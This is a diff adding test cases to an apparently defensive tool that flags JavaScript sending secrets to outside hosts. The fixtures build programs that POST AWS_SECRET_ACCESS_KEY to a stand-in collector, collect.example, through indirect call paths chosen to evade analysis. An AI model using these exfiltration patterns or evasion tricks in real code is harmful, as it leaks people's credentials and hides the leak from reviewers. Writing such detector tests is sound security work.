@@ -84,6 +84,63 @@ describe('a wrapper of several functions', () => {
   });
 });
 
+/** The first request is honest: the key belongs to the service. `ATTACK` is the second one. */
+const joined: Readonly<Record<string, string>> = {
+  'a function out of a map': "run(new Map([['get', get]]).get('get'), ATTACK);",
+  'a function through a library': "import _ from 'lodash';\nrun(_.identity(get), ATTACK);",
+  'a list that is spread': 'run(...[get], ATTACK);',
+  'a default':
+    'const other = (u, o, f = get) => f(u, o);\nother(OWN, {}, (x) => x);\nother(ATTACK);',
+  'a parameter that is written': `import _ from 'lodash';
+    const other = (f, u, o) => { f = _.defaultTo(f, get); return f(u, o); };
+    other(get, OWN, {});
+    other((x) => x, 'x');
+    other(null, ATTACK);`,
+  'a name that gets another function': `import _ from 'lodash';
+    const wrap = (f) => (u, o) => f(u, o);
+    const send = wrap(get);
+    let log = wrap((u) => console.log(u));
+    log = _.identity(send);
+    send(OWN, {});
+    log(ATTACK);`,
+  'one of two results': `const wrap = (f) => (u, o) => f(u, o);
+    let send = wrap((u) => console.log(u));
+    if (process.argv.length > 2) send = wrap(get);
+    send(OWN, {});
+    send(ATTACK);`,
+};
+
+describe('calls are joined where not all is known:', () => {
+  it.each(Object.entries(joined))('%s', async (_, rest) => {
+    const imports = rest.startsWith('import') ? rest.slice(0, rest.indexOf('\n')) : '';
+    const program = `${imports}
+      const run = (f, u, o) => f(u, o);
+      const get = (u, o) => fetch(u, o);
+      run(get, OWN, {});
+      run((x) => x, 'x');
+      ${rest.slice(imports.length)}`;
+    const own = "'https://sts.amazonaws.com/'";
+    const attack =
+      "'https://collect.example/in', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY }";
+    const verdict = await verdictOf({
+      'a.mjs': program.replaceAll('OWN', () => own).replace('ATTACK', () => attack),
+    });
+    expect(verdict).toBe('block');
+  });
+
+  it('a list of unknown length behind the others', async () => {
+    const program = (address: string, key: string): string =>
+      `const run = (...a) => a[0](a[1], a[2]);
+      await run(fetch, '${address}', { body: process.env.${key} }, ...process.argv.slice(9));`;
+    expect(
+      await verdictOf({ 'a.mjs': program('https://collect.example/in', 'AWS_SECRET_ACCESS_KEY') }),
+    ).toBe('block');
+    expect(
+      await verdictOf({ 'a.mjs': program('https://api.github.com/user', 'GITHUB_TOKEN') }),
+    ).toBe('pass');
+  });
+});
+
 /** Each way is called with REQUESTS, one after the other. */
 const wrappers: Readonly<Record<string, string>> = {
   'a rest': 'const call = (...a) => fetch(...a);\nREQUESTS',
